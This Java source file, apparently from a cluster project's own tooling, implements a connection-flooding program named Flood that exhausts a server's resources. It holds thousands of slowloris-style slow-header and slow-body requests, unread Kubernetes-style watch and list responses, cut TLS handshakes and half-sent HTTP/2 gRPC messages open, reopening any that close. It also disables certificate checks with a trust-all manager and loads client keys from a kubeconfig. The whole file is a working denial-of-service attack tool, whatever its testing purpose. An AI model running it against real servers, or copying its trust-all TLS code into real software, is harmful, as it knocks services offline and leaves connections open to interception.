package io.skiff.cluster;

import java.io.ByteArrayInputStream;
import java.io.ByteArrayOutputStream;
import java.io.IOException;
import java.net.InetSocketAddress;
import java.net.Socket;
import java.nio.ByteBuffer;
import java.nio.charset.StandardCharsets;
import java.nio.file.Files;
import java.nio.file.Path;
import java.security.GeneralSecurityException;
import java.security.KeyFactory;
import java.security.KeyStore;
import java.security.SecureRandom;
import java.security.cert.CertificateFactory;
import java.security.cert.X509Certificate;
import java.security.spec.PKCS8EncodedKeySpec;
import java.util.Base64;
import java.util.Queue;
import java.util.concurrent.ConcurrentLinkedQueue;
import java.util.concurrent.Semaphore;
import java.util.concurrent.atomic.AtomicInteger;
import javax.net.ssl.KeyManagerFactory;
import javax.net.ssl.SSLContext;
import javax.net.ssl.SSLSocket;
import javax.net.ssl.TrustManager;
import javax.net.ssl.X509TrustManager;

/**
 * A program that keeps thousands of hostile connections to a server, each of one sort, and opens new ones for those that are closed. Ends after
 * the given time. It is a client of its own, since it does what no client library can.
 */
final class Flood {

    private static final int OPENERS = 12;
    private static final int MOST_OPENED_PER_SECOND = 400;

    private final Sort sort;
    private final InetSocketAddress server;
    private final int count;
    private final SSLContext tls;
    private final Queue<Socket> open = new ConcurrentLinkedQueue<>();
    private final AtomicInteger opened = new AtomicInteger();
    private final AtomicInteger inAll = new AtomicInteger();
    private final Semaphore pace = new Semaphore(0);

    enum Sort {
        SLOW_HEADERS,
        SLOW_BODIES,
        USERS_SLOW_BODIES,
        UNREAD_WATCHES,
        UNREAD_LISTS,
        UNREAD_TABLES,
        UNFINISHED_MESSAGES,
        CUT_HANDSHAKES,
        SILENT
    }

    private Flood(Sort sort, InetSocketAddress server, int count, SSLContext tls) {
        this.sort = sort;
        this.server = server;
        this.count = count;
        this.tls = tls;
    }

    /** SORT HOST PORT COUNT SECONDS KUBECONFIG. */
    public static void main(String... arguments) throws Exception {
        var sort = Sort.valueOf(arguments[0]);
        boolean asUser = sort.name().startsWith("UNREAD") || sort == Sort.USERS_SLOW_BODIES;
        var flood = new Flood(
                sort,
                new InetSocketAddress(arguments[1], Integer.parseInt(arguments[2])),
                Integer.parseInt(arguments[3]),
                tls(asUser ? Files.readString(Path.of(arguments[5])) : ""));
        flood.run(Integer.parseInt(arguments[4]));
    }

    private void run(int seconds) throws InterruptedException {
        for (int i = 0; i < OPENERS; i++) {
            var opener = new Thread(this::keepOpening);
            opener.setDaemon(true);
            opener.start();
        }
        for (int tenth = 0; tenth < seconds * 10; tenth++) {
            pace.drainPermits();
            pace.release(MOST_OPENED_PER_SECOND / 10);
            if (tenth % 50 == 49) {
                drip();
                System.out.println(sort + ": " + open.size() + " open, " + inAll + " opened in all");
            }
            Thread.sleep(100);
        }
        Runtime.getRuntime().halt(0);
    }

    private void keepOpening() {
        while (true) {
            try {
                pace.acquire();
                if (opened.incrementAndGet() > count) {
                    opened.decrementAndGet();
                    continue;
                }
                inAll.incrementAndGet();
                openOne();
            } catch (IOException | RuntimeException e) {
                opened.decrementAndGet();
            } catch (InterruptedException e) {
                return;
            }
        }
    }

    private void openOne() throws IOException, InterruptedException {
        var plain = new Socket();
        try {
            plain.setReceiveBufferSize(8 << 10);
            plain.setSoTimeout(10_000);
            plain.connect(server, 10_000);
            open.add(attack(plain));
        } catch (IOException | RuntimeException e) {
            plain.close();
            throw e;
        }
    }

    private Socket attack(Socket plain) throws IOException, InterruptedException {
        switch (sort) {
            case SILENT -> {
                return plain;
            }
            case CUT_HANDSHAKES -> {
                var engine = tls.createSSLEngine();
                engine.setUseClientMode(true);
                var hello = ByteBuffer.allocate(engine.getSession().getPacketBufferSize());
                engine.wrap(ByteBuffer.allocate(0), hello);
                plain.getOutputStream().write(hello.array(), 0, hello.position());
                return plain;
            }
            default -> {
                var socket = (SSLSocket)
                        tls.getSocketFactory().createSocket(plain, server.getHostString(), server.getPort(), true);
                if (sort == Sort.UNFINISHED_MESSAGES) {
                    var parameters = socket.getSSLParameters();
                    parameters.setApplicationProtocols(new String[] {"h2"});
                    socket.setSSLParameters(parameters);
                }
                socket.startHandshake();
                begin(socket);
                return socket;
            }
        }
    }

    private void begin(SSLSocket socket) throws IOException, InterruptedException {
        var out = socket.getOutputStream();
        var start = switch (sort) {
            case SLOW_HEADERS ->
                lines("GET /version HTTP/1.1", "Host: x") + ("A: " + "x".repeat(990) + "\r\n").repeat(31);
            case SLOW_BODIES, USERS_SLOW_BODIES ->
                lines(
                                "POST /api/v1/namespaces/default/configmaps HTTP/1.1",
                                "Host: x",
                                "Content-Type: application/json",
                                "Content-Length: 3000000",
                                "")
                        + "x".repeat(sort == Sort.SLOW_BODIES ? 10 : 500_000);
            case UNREAD_WATCHES ->
                lines("GET /api/v1/configmaps?watch=1&allowWatchBookmarks=true HTTP/1.1", "Host: x", "");
            case UNREAD_LISTS -> lines("GET /api/v1/configmaps HTTP/1.1", "Host: x", "");
            case UNREAD_TABLES ->
                lines(
                        "GET /api/v1/configmaps?includeObject=Object HTTP/1.1",
                        "Host: x",
                        "Accept: application/json;as=Table;v=v1;g=meta.k8s.io",
                        "");
            default -> "";
        };
        out.write(start.getBytes(StandardCharsets.US_ASCII));
        if (sort == Sort.UNFINISHED_MESSAGES) {
            sendHalfOfAMessage(out);
        }
        out.flush();
    }

    private static String lines(String... lines) {
        return String.join("\r\n", lines) + "\r\n";
    }

    /** A call of Join whose one message says that it is 4 MB long, and never is. */
    private static void sendHalfOfAMessage(java.io.OutputStream out) throws IOException, InterruptedException {
        out.write("PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n".getBytes(StandardCharsets.US_ASCII));
        frame(out, 4, 0, 0, new byte[0]);
        var headers = new ByteArrayOutputStream();
        for (var header : new String[][] {
            {":method", "POST"},
            {":scheme", "http"},
            {":path", "/skiff.node.v1.NodeGateway/Join"},
            {":authority", "x"},
            {"content-type", "application/grpc"},
            {"te", "trailers"}
        }) {
            headers.write(0);
            for (var text : header) {
                headers.write(text.length());
                headers.writeBytes(text.getBytes(StandardCharsets.US_ASCII));
            }
        }
        frame(out, 1, 4, 1, headers.toByteArray());
        var first = new byte[16_000];
        System.arraycopy(
                ByteBuffer.allocate(5).put((byte) 0).putInt((4 << 20) - 100).array(), 0, first, 0, 5);
        frame(out, 0, 0, 1, first);
        for (int i = 0; i < 240; i++) {
            frame(out, 0, 0, 1, new byte[16_000]);
            if (i % 20 == 19) {
                out.flush();
                Thread.sleep(50);
            }
        }
    }

    private static void frame(java.io.OutputStream out, int type, int flags, int stream, byte[] payload)
            throws IOException {
        var head = ByteBuffer.allocate(9)
                .put((byte) (payload.length >> 16))
                .putShort((short) payload.length)
                .put((byte) type)
                .put((byte) flags)
                .putInt(stream);
        out.write(head.array());
        out.write(payload);
    }

    /** A byte now and then, which also tells which connections are gone. */
    private void drip() {
        open.removeIf(socket -> {
            try {
                if (sort == Sort.SILENT || sort == Sort.CUT_HANDSHAKES) {
                    socket.setSoTimeout(1);
                    if (socket.getInputStream().read(new byte[4096]) < 0) {
                        throw new IOException("closed");
                    }
                } else {
                    socket.getOutputStream().write(sort.name().startsWith("UNREAD") ? '\n' : 'x');
                    socket.getOutputStream().flush();
                }
                return false;
            } catch (java.net.SocketTimeoutException e) {
                return false;
            } catch (IOException e) {
                closeQuietly(socket);
                opened.decrementAndGet();
                return true;
            }
        });
    }

    private static void closeQuietly(Socket socket) {
        try {
            socket.close();
        } catch (IOException e) {
            // It is gone.
        }
    }

    /** Trusts everybody: it does not come to be served. */
    private static SSLContext tls(String kubeconfig) throws GeneralSecurityException, IOException {
        var trustAll = new X509TrustManager() {
            @Override
            public void checkClientTrusted(X509Certificate[] chain, String type) {}

            @Override
            public void checkServerTrusted(X509Certificate[] chain, String type) {}

            @Override
            public X509Certificate[] getAcceptedIssuers() {
                return new X509Certificate[0];
            }
        };
        var context = SSLContext.getInstance("TLS");
        var keys = kubeconfig.isEmpty() ? null : keys(kubeconfig).getKeyManagers();
        context.init(keys, new TrustManager[] {trustAll}, new SecureRandom());
        return context;
    }

    private static KeyManagerFactory keys(String kubeconfig) throws GeneralSecurityException, IOException {
        var certificate = CertificateFactory.getInstance("X.509")
                .generateCertificate(new ByteArrayInputStream(field(kubeconfig, "client-certificate-data")));
        var pem = new String(field(kubeconfig, "client-key-data"), StandardCharsets.US_ASCII)
                .replaceAll("-----[^-]*-----|\\s", "");
        var key = KeyFactory.getInstance("EC")
                .generatePrivate(new PKCS8EncodedKeySpec(Base64.getDecoder().decode(pem)));
        var store = KeyStore.getInstance("PKCS12");
        store.load(null, null);
        store.setKeyEntry("user", key, new char[0], new java.security.cert.Certificate[] {certificate});
        var factory = KeyManagerFactory.getInstance(KeyManagerFactory.getDefaultAlgorithm());
        factory.init(store, new char[0]);
        return factory;
    }

    private static byte[] field(String kubeconfig, String name) {
        var text = kubeconfig.replaceAll("(?s).*" + name + ": *", "").replaceAll("(?s)\\s.*", "");
        return Base64.getDecoder().decode(text);
    }
}
